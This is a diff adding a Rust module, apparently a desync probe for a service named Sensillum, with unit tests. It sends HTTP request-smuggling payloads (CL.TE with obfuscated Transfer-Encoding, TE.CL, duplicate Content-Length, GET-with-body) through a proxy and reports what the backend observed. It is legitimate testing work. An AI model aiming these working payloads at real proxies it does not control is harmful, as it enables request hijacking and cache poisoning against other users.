@@ -0,0 +1,385 @@
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
+use crate::desync::SMUGGLED_PATH;
+
+/// How long to wait for more bytes before deciding a response is complete.
+const READ_IDLE: Duration = Duration::from_secs(2);
+
+/// Where the probe sends its requests: the proxy in front of Sensillum.
+struct Target {
+    /// `host[:port]` as given, used for both the connection and `Host`.
+    authority: String,
+    /// URL prefix Sensillum is served under through the proxy, without a trailing `/`.
+    prefix: String,
+}
+
+impl Target {
+    fn parse(url: &str) -> Result<Target, String> {
+        let rest = url
+            .strip_prefix("http://")
+            .ok_or("only http:// targets are supported; the probe speaks plain HTTP/1.1")?;
+        let (authority, path) = match rest.find('/') {
+            Some(i) => (&rest[..i], &rest[i..]),
+            None => (rest, ""),
+        };
+        if authority.is_empty() {
+            return Err("the target URL has no host".to_string());
+        }
+        Ok(Target {
+            authority: authority.to_string(),
+            prefix: path.trim_end_matches('/').to_string(),
+        })
+    }
+
+    fn connect_addr(&self) -> String {
+        if self.authority.rsplit_once(':').is_some_and(|(_, p)| p.parse::<u16>().is_ok()) {
+            self.authority.clone()
+        } else {
+            format!("{}:80", self.authority)
+        }
+    }
+
+    fn probe_path(&self, canary: &str, variant: &str) -> String {
+        format!("{}/desync/probe?canary={}&variant={}", self.prefix, canary, variant)
+    }
+
+    /// A request head left open with `X-Ignore: `, so that whatever request
+    /// follows on the backend connection is glued onto it as a header.
+    fn smuggled_prefix(&self, canary: &str, variant: &str) -> String {
+        format!(
+            "GET {}{}?canary={}&variant={} HTTP/1.1\r\nX-Ignore: ",
+            self.prefix, SMUGGLED_PATH, canary, variant
+        )
+    }
+
+    /// A complete smuggled request whose body swallows the 7-byte chunked
+    /// trailer (`\r\n0\r\n\r\n`) that follows it in the TE.CL variant.
+    fn smuggled_request(&self, canary: &str, variant: &str) -> String {
+        format!(
+            "GET {}{}?canary={}&variant={} HTTP/1.1\r\nHost: {}\r\nContent-Length: 7\r\n\r\n",
+            self.prefix, SMUGGLED_PATH, canary, variant, self.authority
+        )
+    }
+}
+
+/// A known request-smuggling technique.
+struct Variant {
+    id: &'static str,
+    description: &'static str,
+    build: fn(&Target, &str) -> Vec<u8>,
+}
+
+/// CL.TE: the proxy frames by `Content-Length`, Sensillum by chunked
+/// encoding, so the bytes after the empty chunk become the next request.
+fn cl_te(t: &Target, canary: &str, variant: &str, te_lines: &str) -> Vec<u8> {
+    let body = format!("0\r\n\r\n{}", t.smuggled_prefix(canary, variant));
+    format!(
+        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n{}\r\n\r\n{}",
+        t.probe_path(canary, variant), t.authority, body.len(), te_lines, body
+    )
+    .into_bytes()
+}
+
+static VARIANTS: &[Variant] = &[
+    Variant {
+        id: "cl-te",
+        description: "Content-Length and Transfer-Encoding: chunked",
+        build: |t, c| cl_te(t, c, "cl-te", "Transfer-Encoding: chunked"),
+    },
+    Variant {
+        id: "cl-te-tab",
+        description: "Transfer-Encoding with a tab before the value",
+        build: |t, c| cl_te(t, c, "cl-te-tab", "Transfer-Encoding:\tchunked"),
+    },
+    Variant {
+        id: "cl-te-case",
+        description: "Transfer-Encoding: CHUNKED in upper case",
+        build: |t, c| cl_te(t, c, "cl-te-case", "Transfer-Encoding: CHUNKED"),
+    },
+    Variant {
+        id: "cl-te-dup",
+        description: "Two Transfer-Encoding headers (identity, chunked)",
+        build: |t, c| cl_te(t, c, "cl-te-dup", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
+    },
+    Variant {
+        id: "te-cl",
+        description: "Chunked body with a Content-Length covering only the chunk size",
+        build: |t, c| {
+            let chunk = t.smuggled_request(c, "te-cl");
+            let size_line = format!("{:x}\r\n", chunk.len());
+            format!(
+                "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{}{}\r\n0\r\n\r\n",
+                t.probe_path(c, "te-cl"), t.authority, size_line.len(), size_line, chunk
+            )
+            .into_bytes()
+        },
+    },
+    Variant {
+        id: "cl-cl",
+        description: "Two Content-Length headers (full body, then 0)",
+        build: |t, c| {
+            let body = t.smuggled_prefix(c, "cl-cl");
+            format!(
+                "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nContent-Length: 0\r\n\r\n{}",
+                t.probe_path(c, "cl-cl"), t.authority, body.len(), body
+            )
+            .into_bytes()
+        },
+    },
+    Variant {
+        id: "get-body",
+        description: "GET with a body (CL.0)",
+        build: |t, c| {
+            let body = t.smuggled_prefix(c, "get-body");
+            format!(
+                "GET {} HTTP/1.1\r\nHost: {}\r\nContent-Length: {}\r\n\r\n{}",
+                t.probe_path(c, "get-body"), t.authority, body.len(), body
+            )
+            .into_bytes()
+        },
+    },
+];
+
+/// A fresh random-looking token, so probes from different runs never match.
+fn new_canary(variant: &str) -> String {
+    let nanos = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or(0);
+    let digest = Sha256::digest(format!("{}:{}:{}", nanos, std::process::id(), variant));
+    digest.iter().take(8).map(|b| format!("{:02x}", b)).collect()
+}
+
+/// Read until the peer closes or stays quiet for `READ_IDLE`.
+async fn read_idle(stream: &mut TcpStream) -> Vec<u8> {
+    let mut data = Vec::new();
+    let mut buf = [0u8; 8192];
+    while let Ok(Ok(n)) = tokio::time::timeout(READ_IDLE, stream.read(&mut buf)).await {
+        if n == 0 {
+            break;
+        }
+        data.extend_from_slice(&buf[..n]);
+    }
+    data
+}
+
+/// Status codes of every response found in `data`.
+fn statuses(data: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(data);
+    text.match_indices("HTTP/1.")
+        .filter_map(|(i, _)| text[i..].split_whitespace().nth(1))
+        .filter(|code| code.len() == 3 && code.bytes().all(|b| b.is_ascii_digit()))
+        .map(str::to_string)
+        .collect()
+}
+
+/// Send `request` on a new connection and read what comes back.
+async fn exchange(t: &Target, request: &[u8]) -> Result<Vec<u8>, String> {
+    let mut stream = TcpStream::connect(t.connect_addr())
+        .await
+        .map_err(|e| format!("cannot connect to {}: {}", t.authority, e))?;
+    stream.write_all(request).await.map_err(|e| e.to_string())?;
+    Ok(read_idle(&mut stream).await)
+}
+
+/// Run one variant: the attack, a follow-up on the same connection and one
+/// on a new connection (the proxy may pool its backend connections), then ask
+/// Sensillum what it saw.
+async fn run_variant(t: &Target, variant: &Variant) -> Result<bool, String> {
+    let canary = new_canary(variant.id);
+    let follow_up = format!(
+        "GET {}/desync?canary={} HTTP/1.1\r\nHost: {}\r\n\r\n",
+        t.prefix, canary, t.authority
+    );
+
+    let mut attack = TcpStream::connect(t.connect_addr())
+        .await
+        .map_err(|e| format!("cannot connect to {}: {}", t.authority, e))?;
+    attack
+        .write_all(&(variant.build)(t, &canary))
+        .await
+        .map_err(|e| e.to_string())?;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    // The proxy may already have closed the connection; that is a result too.
+    let _ = attack.write_all(follow_up.as_bytes()).await;
+    let fresh = follow_up.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n");
+    let (same_conn, new_conn) = tokio::join!(read_idle(&mut attack), exchange(t, fresh.as_bytes()));
+    let new_conn = new_conn.unwrap_or_default();
+
+    let report_request = format!(
+        "GET {}/desync?canary={} HTTP/1.0\r\nHost: {}\r\nConnection: close\r\n\r\n",
+        t.prefix, canary, t.authority
+    );
+    let report_raw = exchange(t, report_request.as_bytes()).await?;
+    let report_text = String::from_utf8_lossy(&report_raw);
+    let report: Value = report_text
+        .split_once("\r\n\r\n")
+        .and_then(|(_, body)| serde_json::from_str(body).ok())
+        .ok_or("Sensillum's /desync report was not readable through the proxy")?;
+
+    let smuggled_response = [&same_conn, &new_conn].iter().any(|d| {
+        String::from_utf8_lossy(d)
+            .to_ascii_lowercase()
+            .contains("x-desync-smuggled")
+    });
+    let desync = report["desync_detected"].as_bool().unwrap_or(false) || smuggled_response;
+
+    println!("{:<11} {}", variant.id, variant.description);
+    println!("            proxy responses: {}", statuses(&same_conn).join(", "));
+    if report["probes"].as_array().is_none_or(|p| p.is_empty()) {
+        println!("            the probe request did not reach Sensillum");
+    }
+    for probe in report["probes"].as_array().into_iter().flatten() {
+        if probe["smuggled_in_body"].as_bool() == Some(true) {
+            println!("            the smuggled request arrived as body — proxy and backend agree on the framing");
+        }
+    }
+    for s in report["smuggled"].as_array().into_iter().flatten() {
+        let same = if s["same_connection_as_probe"].as_bool() == Some(true) {
+            "on the probe's backend connection"
+        } else {
+            "on another backend connection"
+        };
+        println!("            DESYNC: smuggled request reached Sensillum {}", same);
+        if let Some(absorbed) = s["absorbed"].as_str() {
+            println!("            it absorbed the next request: {:?}", absorbed);
+        }
+    }
+    if smuggled_response {
+        println!("            DESYNC: a client received the smuggled request's response");
+    }
+    for e in report["parse_errors"].as_array().into_iter().flatten() {
+        println!(
+            "            leftover bytes: backend connection {} ended with \"{}\"",
+            e["connection"], e["error"].as_str().unwrap_or("")
+        );
+    }
+    for b in report["short_bodies"].as_array().into_iter().flatten() {
+        println!(
+            "            short body: backend connection {} received {} of {} bytes",
+            b["connection"], b["received"], b["content_length"]
+        );
+    }
+    for x in report["extra_requests"].as_array().into_iter().flatten() {
+        println!(
+            "            extra request: {} {} followed the probe on backend connection {}",
+            x["method"].as_str().unwrap_or(""),
+            x["path"].as_str().unwrap_or(""),
+            x["connection"]
+        );
+    }
+    for c in report["connections"].as_array().into_iter().flatten() {
+        println!(
+            "            backend connection {} carried {} request(s)",
+            c["connection"], c["requests"]
+        );
+    }
+    if !desync {
+        println!("            no desync observed");
+    }
+    Ok(desync)
+}
+
+/// `--desync-probe <URL>`: send each smuggling variant through the proxy at
+/// `url` and report any desync Sensillum behind it observed.  Returns whether
+/// any variant desynchronised the proxy.
+pub async fn run_probe(url: &str) -> Result<bool, String> {
+    let target = Target::parse(url)?;
+    println!("Probing {} for request smuggling ({} variants)\n", url, VARIANTS.len());
+    let mut any = false;
+    for variant in VARIANTS {
+        any |= run_variant(&target, variant).await?;
+    }
+    Ok(any)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn target() -> Target {
+        Target::parse("http://proxy:8080/app/").unwrap()
+    }
+
+    fn build(id: &str) -> String {
+        let variant = VARIANTS.iter().find(|v| v.id == id).unwrap();
+        String::from_utf8((variant.build)(&target(), "c0ffee")).unwrap()
+    }
+
+    /// The declared `Content-Length` and the bytes after the head.
+    fn content_length_and_body(request: &str) -> (usize, &str) {
+        let (head, body) = request.split_once("\r\n\r\n").unwrap();
+        let length = head
+            .lines()
+            .find_map(|l| l.strip_prefix("Content-Length: "))
+            .unwrap()
+            .parse()
+            .unwrap();
+        (length, body)
+    }
+
+    #[test]
+    fn target_parsing() {
+        let t = target();
+        assert_eq!(t.authority, "proxy:8080");
+        assert_eq!(t.prefix, "/app");
+        assert_eq!(t.connect_addr(), "proxy:8080");
+        assert_eq!(Target::parse("http://proxy").unwrap().connect_addr(), "proxy:80");
+        assert!(Target::parse("https://proxy/").is_err());
+        assert!(Target::parse("http:///app").is_err());
+    }
+
+    #[test]
+    fn cl_te_body_is_the_smuggled_prefix_after_an_empty_chunk() {
+        let request = build("cl-te");
+        assert!(request.starts_with("POST /app/desync/probe?canary=c0ffee&variant=cl-te HTTP/1.1\r\n"));
+        let (length, body) = content_length_and_body(&request);
+        assert_eq!(length, body.len());
+        assert_eq!(
+            body,
+            "0\r\n\r\nGET /app/desync/smuggled?canary=c0ffee&variant=cl-te HTTP/1.1\r\nX-Ignore: "
+        );
+        assert!(build("cl-te-dup").contains("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n"));
+    }
+
+    #[test]
+    fn te_cl_content_length_covers_only_the_chunk_size() {
+        let request = build("te-cl");
+        let (length, body) = content_length_and_body(&request);
+        let (size_line, rest) = body.split_once("\r\n").unwrap();
+        assert_eq!(length, size_line.len() + 2);
+        let chunk_len = usize::from_str_radix(size_line, 16).unwrap();
+        let (chunk, trailer) = rest.split_at(chunk_len);
+        assert!(chunk.starts_with("GET /app/desync/smuggled?canary=c0ffee&variant=te-cl HTTP/1.1\r\n"));
+        // The smuggled request's own body swallows what follows the chunk.
+        assert_eq!(trailer, "\r\n0\r\n\r\n");
+        assert_eq!(content_length_and_body(chunk).0, trailer.len());
+    }
+
+    #[test]
+    fn every_variant_targets_the_probe_path() {
+        for variant in VARIANTS {
+            let request = String::from_utf8((variant.build)(&target(), "c0ffee")).unwrap();
+            let probe = format!("/app/desync/probe?canary=c0ffee&variant={} HTTP/1.1\r\n", variant.id);
+            assert!(request.contains(&probe), "{}", variant.id);
+            assert!(request.contains("\r\nHost: proxy:8080\r\n"), "{}", variant.id);
+        }
+    }
+
+    #[test]
+    fn statuses_of_pipelined_responses() {
+        let data = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 400 Bad Request\r\n\r\nHTTP/1.1 abc\r\n";
+        assert_eq!(statuses(data), ["200", "400"]);
+    }
+
+    #[test]
+    fn canaries_are_short_hex() {
+        let canary = new_canary("cl-te");
+        assert_eq!(canary.len(), 16);
+        assert!(canary.bytes().all(|b| b.is_ascii_hexdigit()));
+    }
+}